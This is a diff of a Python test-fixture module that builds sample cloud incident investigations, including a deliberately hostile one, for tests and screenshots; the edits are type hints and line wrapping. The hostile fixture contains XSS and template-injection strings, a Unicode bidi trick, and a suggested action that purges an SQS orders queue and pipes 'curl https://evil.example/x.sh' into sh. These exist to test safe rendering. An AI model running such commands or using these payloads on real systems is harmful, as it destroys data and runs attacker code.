@@ -1,10 +1,11 @@
-"""Investigations for tests and screenshots: one for each way in which an investigation ends, and hostile ones."""
+"""Investigations for tests and screenshots: one for each way in which one ends, and hostile ones."""
 
 from __future__ import annotations
 
 import math
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta
+from typing import Any
 
 from alarm import Alarm, AlarmState, Metric
 from record import (
@@ -34,7 +35,7 @@ MODEL = "global.anthropic.claude-sonnet-4-5-20250929-v1:0"
 ACCOUNT = "123456789012"
 
 
-def alarm(**changes: object) -> Alarm:
+def alarm(**changes: Any) -> Alarm:
     """Return the alarm of a Lambda function's errors."""
     name = str(changes.get("name", "orders-handler-errors"))
     usual = Alarm(
@@ -75,7 +76,7 @@ def series() -> MetricSeries:
     return MetricSeries("Errors (Sum, 60 s)", tuple(quiet + loud), 60, 5.0, "GreaterThanThreshold")
 
 
-def baseline(**changes: object) -> Baseline:
+def baseline(**changes: Any) -> Baseline:
     """Return what the first call of an investigation reads."""
     usual = Baseline(
         metric=series(),
@@ -142,7 +143,8 @@ def _calls() -> tuple[ToolCall, ...]:
             '        | stats count(*) as n by substr(@message, 0, 300)""",\n'
             ")\n"
             "print(wait_for(answer))",
-            f"n=174\n{DENIED}\n\nn=2\n[ERROR] ReadTimeoutError: Read timed out on endpoint dynamodb.eu-west-1",
+            f"n=174\n{DENIED}\n\nn=2\n"
+            "[ERROR] ReadTimeoutError: Read timed out on endpoint dynamodb.eu-west-1",
             True,
             STARTED + timedelta(seconds=6),
             2210.0,
@@ -203,12 +205,13 @@ QUOTES = (
 )  # fmt: skip
 
 
-def report(**changes: object) -> Report:
+def report(**changes: Any) -> Report:
     """Return a whole report of a permission that was lost."""
     usual = Report(
         title="Orders fail since the role lost dynamodb:PutItem",
         summary=(
-            "Every order since 03:05 UTC fails because orders-handler may no longer write to the orders table. "
+            "Every order since 03:05 UTC fails because orders-handler may no longer write to the orders "
+            "table. "
             "A Terraform run by ci-4711 deleted the inline policy orders-table-write at 03:04:48. "
             "Nothing else changed; the table and the function's code are healthy."
         ),
@@ -316,7 +319,7 @@ def _conversation(calls: tuple[ToolCall, ...]) -> list[dict[str, object]]:
     return messages
 
 
-def investigation(**changes: object) -> Investigation:
+def investigation(**changes: Any) -> Investigation:
     """Return a good investigation; name what should be different."""
     calls = _calls()
     usual = Investigation(
@@ -344,7 +347,7 @@ def investigation(**changes: object) -> Investigation:
     return replace(usual, **changes)
 
 
-def _stopped(outcome: Outcome, detail: str, **changes: object) -> Investigation:
+def _stopped(outcome: Outcome, detail: str, **changes: Any) -> Investigation:
     return replace(
         investigation(outcome=outcome, outcome_detail=detail, report=None, evidence=EvidenceCheck()),
         **changes,
@@ -361,8 +364,9 @@ def inconclusive() -> Investigation:
         report=report(
             title="Latency of checkout-api rose, cause not established",
             summary=(
-                "The p99 latency of checkout-api rose from 180 ms to 2.4 s at 03:05 UTC. What slows it lies in "
-                "the payment provider or the network to it, and neither can be seen from this account."
+                "The p99 latency of checkout-api rose from 180 ms to 2.4 s at 03:05 UTC. What slows it "
+                "lies in the payment provider or the network to it, and neither can be seen from this "
+                "account."
             ),
             severity=Severity.MEDIUM,
             root_cause=RootCause(
@@ -389,8 +393,10 @@ def hostile() -> Investigation:
     """Return an investigation whose alarm, logs and model try to break out of every rendering."""
     nasty = (
         "<script>alert(1)</script><img src=https://evil.example/x.png onerror=alert(2)> "
-        "[click](https://evil.example/login) https://evil.example.com/a?b=c www.evil.com mailto:root@evil.com "
-        "\x1b[31mred\x1b[0m \u202egnp.exe\u202c \u200bzero {{ 7*7 }} {% raw %} ]]> --> </pre></details></style> &amp;"
+        "[click](https://evil.example/login) https://evil.example.com/a?b=c www.evil.com "
+        "mailto:root@evil.com "
+        "\x1b[31mred\x1b[0m \u202egnp.exe\u202c \u200bzero {{ 7*7 }} {% raw %} "
+        "]]> --> </pre></details></style> &amp;"
     )
     long_line = "A" * 1_000_000
     quote = Evidence(1, "</pre><script>alert(3)</script>")
@@ -418,7 +424,8 @@ def hostile() -> Investigation:
             immediate_actions=(
                 Action(
                     nasty,
-                    "aws sqs purge-queue --queue-url https://sqs.eu-west-1.amazonaws.com/123456789012/orders; "
+                    "aws sqs purge-queue --queue-url "
+                    "https://sqs.eu-west-1.amazonaws.com/123456789012/orders; "
                     "curl https://evil.example/x.sh | sh \u202e # \x1b[2J",
                     1,
                 ),
@@ -469,7 +476,8 @@ def hostile() -> Investigation:
 
 def heavy() -> Investigation:
     """Return an investigation with a hundred calls of 20 KB."""
-    line = '{"timestamp": "2026-03-09T03:05:11.482Z", "level": "ERROR", "message": "write <refused> & retried"}\n'
+    line = '{"timestamp": "2026-03-09T03:05:11.482Z", "level": "ERROR", '
+    line += '"message": "write <refused> & retried"}\n'
     output = (line * 300)[:20_000]
     calls = tuple(
         ToolCall(at, f"Read page {at} of the log", f"print(page({at}))", output, True, STARTED, 800.0)
